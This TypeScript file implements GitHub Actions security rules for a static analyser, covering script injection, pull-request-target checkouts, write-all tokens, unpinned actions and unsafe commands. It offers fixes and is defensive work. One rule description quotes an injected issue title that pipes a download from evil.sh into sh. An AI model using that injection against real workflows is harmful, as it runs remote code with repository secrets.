/**
 * GitHub Actions workflows, read as a YAML syntax tree: script injection from attacker-controlled event
 * fields, "pwn request" checkouts of untrusted code in privileged triggers, write-all tokens, unpinned
 * third-party actions and re-enabled unsafe workflow commands.
 */
import { isMap, isScalar, isSeq, parseDocument, type Document, type Node, type Pair, type YAMLMap } from 'yaml';
import { get, keyName, pairs } from './yaml-nodes.js';
import type { Fix, Reporter, RuleFamily, RuleMeta, SourceDoc } from '../types.js';

export const CiRule = {
  ScriptInjection: 'ci.script-injection',
  UntrustedCheckout: 'ci.untrusted-checkout',
  WriteAllPermissions: 'ci.write-all-permissions',
  UnpinnedAction: 'ci.unpinned-action',
  UnsafeCommands: 'ci.unsafe-commands-enabled',
} as const;

const A08 = 'A08:2021-Software and Data Integrity Failures';
const A03 = 'A03:2021-Injection';
const A01 = 'A01:2021-Broken Access Control';

const RULES: readonly RuleMeta[] = [
  {
    id: CiRule.ScriptInjection,
    category: 'ci',
    severity: 'high',
    title: 'Attacker-controlled event data expanded into a workflow script',
    description:
      '`${{ … }}` expressions are substituted into the script text before the shell runs it. Issue and pull ' +
      'request titles and bodies, comments, branch names and commit messages are chosen by whoever opens them, ' +
      'so a title like `a"; curl evil.sh | sh; "` runs with the workflow\'s token and secrets.',
    cwe: ['CWE-78', 'CWE-94'],
    owasp: [A03],
    fix: 'Pass the value through an environment variable (`env: TITLE: ${{ github.event.issue.title }}`) and ' +
      'use it quoted in the script (`"$TITLE"`), so the shell treats it as data.',
    examples: [{
      language: 'github-actions',
      bad: '- run: echo "${{ github.event.issue.title }}"',
      good: '- run: echo "$TITLE"\n  env:\n    TITLE: ${{ github.event.issue.title }}',
    }],
  },
  {
    id: CiRule.UntrustedCheckout,
    category: 'ci',
    severity: 'critical',
    title: 'Privileged workflow checks out untrusted pull request code',
    description:
      '`pull_request_target` and `workflow_run` run with a write token and repository secrets. Checking out the ' +
      'pull request head and then building or running it lets any fork author run code with those privileges ' +
      '("pwn request").',
    cwe: ['CWE-829', 'CWE-94'],
    owasp: [A08],
    fix: 'Use the `pull_request` trigger for building untrusted code, or split the work: an unprivileged ' +
      '`pull_request` job builds, and a privileged `workflow_run` job only reads its artifacts as data.',
    examples: [{
      language: 'github-actions',
      bad: 'on: pull_request_target\n…\n- uses: actions/checkout@v4\n  with:\n    ref: ${{ github.event.pull_request.head.sha }}',
    }],
  },
  {
    id: CiRule.WriteAllPermissions,
    category: 'ci',
    severity: 'medium',
    title: 'Workflow token has write access to everything',
    description:
      '`permissions: write-all` gives every step a token that can push code, create releases and change ' +
      'settings. Any compromised step or dependency inherits it.',
    cwe: ['CWE-250'],
    owasp: [A01],
    fix: 'Grant only what the job needs, e.g. `permissions: { contents: read }`, adding specific write scopes per job.',
    examples: [{ language: 'github-actions', bad: 'permissions: write-all', good: 'permissions:\n  contents: read' }],
  },
  {
    id: CiRule.UnpinnedAction,
    category: 'ci',
    severity: 'low',
    title: 'Third-party action not pinned to a commit',
    description:
      'A tag or branch such as `@v2` or `@main` can be moved by the action\'s owner (or whoever compromises ' +
      'them) to new code, which then runs with this workflow\'s token and secrets.',
    cwe: ['CWE-829'],
    owasp: [A08],
    fix: 'Pin third-party actions to a full 40-character commit SHA and note the version in a comment ' +
      '(`uses: owner/action@<sha> # v2.1.0`); let Dependabot update the pins.',
    examples: [{ language: 'github-actions', bad: '- uses: someone/deploy-action@v2', good: '- uses: someone/deploy-action@8f4b7f84864484a7bf31766abe9204da3cbe65b3 # v2.0.1' }],
  },
  {
    id: CiRule.UnsafeCommands,
    category: 'ci',
    severity: 'medium',
    title: 'Deprecated unsafe workflow commands re-enabled',
    description:
      '`ACTIONS_ALLOW_UNSECURE_COMMANDS: true` re-enables `set-env` and `add-path`, which let anything that ' +
      'prints to the log (including attacker-controlled text) set environment variables and the PATH.',
    cwe: ['CWE-77'],
    owasp: [A03],
    fix: 'Remove the variable and write to `$GITHUB_ENV` / `$GITHUB_PATH` instead.',
    examples: [{ language: 'github-actions', bad: 'env:\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: true' }],
  },
];

/** Event fields an outsider controls (issue/PR/comment text, branch names, commit metadata). */
const UNTRUSTED =
  /\bgithub\.(?:head_ref|event\.(?:issue\.(?:title|body)|pull_request\.(?:title|body|head\.(?:ref|label|repo\.default_branch))|comment\.body|review\.body|review_comment\.body|discussion\.(?:title|body)|pages\.[^}]*?\.page_name|commits\.[^}]*?\.(?:message|author\.(?:email|name))|head_commit\.(?:message|author\.(?:email|name))|workflow_run\.(?:head_branch|head_commit\.(?:message|author\.(?:email|name))|display_title)|inputs\.[\w-]*(?:title|body|message|comment)[\w-]*))\b/;
const EXPRESSION = /\$\{\{([^}]*)\}\}/g;
const PR_HEAD_REF = /github\.(?:event\.pull_request\.head\.(?:sha|ref)|head_ref|event\.workflow_run\.head_(?:sha|branch))|refs\/pull\//;
const SHA_PIN = /@[0-9a-f]{40}$/;

function triggers(doc: Document): Set<string> {
  const on = get(doc.contents, 'on')?.value;
  const out = new Set<string>();
  if (isScalar(on)) {
    out.add(String(on.value));
  } else if (isSeq(on)) {
    for (const item of on.items) if (isScalar(item)) out.add(String(item.value));
  } else if (isMap(on)) {
    for (const p of on.items) out.add(keyName(p));
  }
  return out;
}

function envName(expression: string): string {
  // Two trailing segments read well (COMMENT_BODY); GitHub reserves GITHUB_* names, so never start with it.
  const last = expression.trim().split('.').filter((part) => part !== 'github').slice(-2).join('_');
  return last.replace(/[^A-Za-z0-9]+/g, '_').replace(/^_+|_+$/g, '').toUpperCase() || 'UNTRUSTED_INPUT';
}

function lineStartOf(text: string, offset: number): number {
  return text.lastIndexOf('\n', offset - 1) + 1;
}

/** The fix for script injection: the expression becomes an env var read, the value moves to `env:`. */
function envFix(doc: SourceDoc, step: YAMLMap, runPair: Pair, at: number, end: number, expression: string): Fix | undefined {
  if (get(step, 'env') || !isScalar(runPair.key) || !runPair.key.range || !isScalar(runPair.value) || !runPair.value.range) return undefined;
  const text = doc.text;
  const name = envName(expression);
  const lineStart = lineStartOf(text, at);
  const before = text.slice(lineStart, at);
  const insideDoubleQuotes = (before.match(/(?<!\\)"/g)?.length ?? 0) % 2 === 1;
  const keyColumn = runPair.key.range[0] - lineStartOf(text, runPair.key.range[0]);
  const valueEnd = runPair.value.range[1];
  const nextLine = text.indexOf('\n', valueEnd - 1);
  const insertAt = nextLine < 0 ? text.length : nextLine + 1;
  const indent = ' '.repeat(keyColumn);
  const newline = nextLine < 0 ? '\n' : '';
  return {
    title: `Pass ${expression.trim()} through the environment variable ${name}`,
    edits: [
      { start: at, end, newText: insideDoubleQuotes ? `\${${name}}` : `"\${${name}}"` },
      { start: insertAt, end: insertAt, newText: `${newline}${indent}env:\n${indent}  ${name}: \${{ ${expression.trim()} }}\n` },
    ],
  };
}

function checkRun(doc: SourceDoc, step: YAMLMap, report: Reporter): void {
  const run = get(step, 'run');
  const script = run ?? get(get(step, 'with')?.value, 'script');
  if (!script || !isScalar(script.value) || !script.value.range || typeof script.value.value !== 'string') return;
  const [start, end] = script.value.range;
  const source = doc.text.slice(start, end);
  EXPRESSION.lastIndex = 0;
  for (let m = EXPRESSION.exec(source); m; m = EXPRESSION.exec(source)) {
    const field = UNTRUSTED.exec(m[1]!);
    if (!field) continue;
    const at = start + m.index;
    const fix = run ? envFix(doc, step, run, at, at + m[0].length, m[1]!) : undefined;
    report.finding({
      ruleId: CiRule.ScriptInjection,
      start: at,
      end: at + m[0].length,
      message: `${field[0]} is controlled by outsiders and is expanded into this ${run ? 'shell script' : 'script'} before it runs`,
      ...(fix ? { fix } : {}),
    });
  }
}

function checkUses(step: YAMLMap, privileged: boolean, report: Reporter): void {
  const uses = get(step, 'uses')?.value;
  if (!isScalar(uses) || typeof uses.value !== 'string' || !uses.range) return;
  const ref = uses.value.trim();
  const [start, end] = uses.range;
  if (privileged && /^actions\/checkout@/.test(ref)) {
    const target = get(get(step, 'with')?.value, 'ref')?.value;
    if (isScalar(target) && typeof target.value === 'string' && PR_HEAD_REF.test(target.value) && target.range) {
      report.finding({
        ruleId: CiRule.UntrustedCheckout,
        start: target.range[0],
        end: target.range[1],
        message: 'This privileged workflow checks out the pull request\'s own code, which any fork author controls',
      });
    }
  }
  const local = ref.startsWith('./') || ref.startsWith('docker://');
  const firstParty = /^(actions|github)\//.test(ref);
  if (!local && !firstParty && ref.includes('@') && !SHA_PIN.test(ref)) {
    report.finding({ ruleId: CiRule.UnpinnedAction, start, end, message: `${ref} is pinned to a movable tag or branch, not a commit SHA` });
  }
}

function checkPermissions(node: unknown, report: Reporter): void {
  const perms = get(node, 'permissions')?.value;
  if (isScalar(perms) && perms.value === 'write-all' && perms.range) {
    const [start, end] = perms.range;
    report.finding({
      ruleId: CiRule.WriteAllPermissions,
      start,
      end,
      fix: { title: 'Use read-all and grant write scopes per job', edits: [{ start, end, newText: 'read-all' }] },
    });
  }
}

function checkEnv(node: unknown, report: Reporter): void {
  const env = get(node, 'env')?.value;
  const flag = get(env, 'ACTIONS_ALLOW_UNSECURE_COMMANDS');
  if (flag && isScalar(flag.value) && /^true$/i.test(String(flag.value.value)) && isScalar(flag.key) && flag.key.range && flag.value.range) {
    report.finding({ ruleId: CiRule.UnsafeCommands, start: flag.key.range[0], end: flag.value.range[1] });
  }
}

function eachStep(job: Node | null | undefined, visit: (step: YAMLMap) => void): void {
  const steps = get(job, 'steps')?.value;
  if (isSeq(steps)) for (const step of steps.items) if (isMap(step)) visit(step as YAMLMap);
}

/** GitHub Actions workflow rules. */
export const ciFamily: RuleFamily = {
  name: 'ci',
  rules: RULES,
  appliesTo: (language) => language === 'github-actions',
  run(doc: SourceDoc, report: Reporter): void {
    const parsed = parseDocument(doc.text, { uniqueKeys: false, prettyErrors: false });
    if (parsed.errors.length > 0) {
      report.note({ kind: 'parse-error', message: `YAML does not parse (${parsed.errors[0]!.message.split('\n')[0]}); workflow rules skipped` });
      return;
    }
    const root = parsed.contents;
    const on = triggers(parsed);
    const privileged = on.has('pull_request_target') || on.has('workflow_run');
    checkPermissions(root, report);
    checkEnv(root, report);
    // A composite action (action.yml) has runs.steps instead of jobs.
    const jobs = [...pairs(get(root, 'jobs')?.value).map((p) => p.value as Node), get(root, 'runs')?.value as Node];
    for (const job of jobs) {
      if (!job) continue;
      checkPermissions(job, report);
      checkEnv(job, report);
      eachStep(job, (step) => {
        checkRun(doc, step, report);
        checkUses(step, privileged, report);
        checkEnv(step, report);
      });
    }
  },
};
